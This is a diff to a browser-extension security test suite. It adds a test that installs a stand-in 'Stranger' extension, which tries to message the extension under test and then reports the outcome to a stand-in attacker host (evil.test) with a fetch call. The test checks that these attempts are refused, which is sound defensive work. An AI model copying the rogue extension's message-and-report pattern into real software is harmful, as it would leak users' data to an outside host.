@@ -1,5 +1,8 @@
 /** A web page gets nothing out of the extension (security rows 13 and 17 to 24). */
 import assert from 'node:assert/strict';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { it } from 'node:test';
 import { inBothBrowsers } from '../lib/session.mjs';
 import { EVIL, FAKES, LOOP, swapping } from '../lib/stand-ins/pages/hostile.mjs';
@@ -7,6 +10,21 @@ import { TARGETS, unused } from '../lib/stand-ins/pages/targets.mjs';
 import { hostOf, wrap } from '../lib/stand-ins/pages/walls.mjs';
 import { settled, showing } from '../lib/steps.mjs';
 import { addressOf, eventually, pause, shows } from '../lib/wait.mjs';
+
+/** An extension that speaks to ours, and tells evil.test what came back. */
+function writeStranger(folder, id, wall) {
+  writeFileSync(join(folder, 'manifest.json'), JSON.stringify({
+    manifest_version: 3, name: 'Stranger', version: '1', host_permissions: [`${EVIL}*`], background: { service_worker: 'speak.js', scripts: ['speak.js'] },
+    browser_specific_settings: { gecko: { id: 'stranger@plainlink.test', data_collection_permissions: { required: ['none'] } } },
+  }));
+  writeFileSync(join(folder, 'speak.js'), `
+const report = (what) => fetch(${JSON.stringify(EVIL)} + '?report=' + encodeURIComponent(what), { mode: 'no-cors' });
+chrome.runtime.sendMessage(${JSON.stringify(id)}, { kind: 'original', tab: 1, wall: ${JSON.stringify(wall)} }).then((answer) => report('message ' + (answer === undefined ? 'refused' : 'answered')), () => report('message refused'));
+const port = chrome.runtime.connect(${JSON.stringify(id)});
+port.onMessage.addListener(() => report('connect answered'));
+port.onDisconnect.addListener(() => { void chrome.runtime.lastError; report('connect refused'); });
+port.postMessage({ kind: 'page' });`);
+}
 
 const FILES = ['go.html', 'where.html', 'popup.html', 'options.html', 'manifest.json', 'background.js'];
 const evilPage = (at) => showing(at.session, EVIL);
@@ -66,7 +84,7 @@ inBothBrowsers('a hostile page', {}, (at) => {
       await page.evaluate((url) => { location.href = url; }, address).catch(() => undefined);
       await settled();
       for (const tab of await at.session.browser.pages()) {
-        if (!tab.url().startsWith(at.session.origin)) continue;
+        if (!(await addressOf(tab)).startsWith(at.session.origin)) continue;
         assert.equal(await tab.evaluate(() => document.querySelectorAll('main, script[src]').length).catch(() => 0), 0, `${opened} ${address}`);
       }
       assert.equal(seen.requests(hostOf(TARGETS.Taobao)).length, 0);
@@ -96,6 +114,18 @@ inBothBrowsers('a hostile page', {}, (at) => {
     assert.ok(!answers.includes('answered'), answers.join());
     assert.deepEqual([await addressOf(page), (await at.session.browser.pages()).length], [EVIL, before]);
     await page.close();
+  });
+
+  it('gets no answer through another extension either', async () => {
+    const folder = mkdtempSync(join(tmpdir(), 'plainlink-stranger-'));
+    writeStranger(folder, at.session.id, wrap.qq(TARGETS.Taobao));
+    const seen = at.standIns.journal.open();
+    const id = await at.session.browser.installExtension(folder);
+    const reports = () => seen.requests(hostOf(EVIL)).map(({ url }) => new URL(url).searchParams.get('report')).filter((report) => report !== null);
+    await eventually(() => reports().length === 2);
+    assert.deepEqual(reports().sort(), ['connect refused', 'message refused']);
+    await at.session.browser.uninstallExtension(id);
+    rmSync(folder, { recursive: true });
   });
 
   it('that swaps a link while the button goes down is followed where the navigation really goes', async () => {
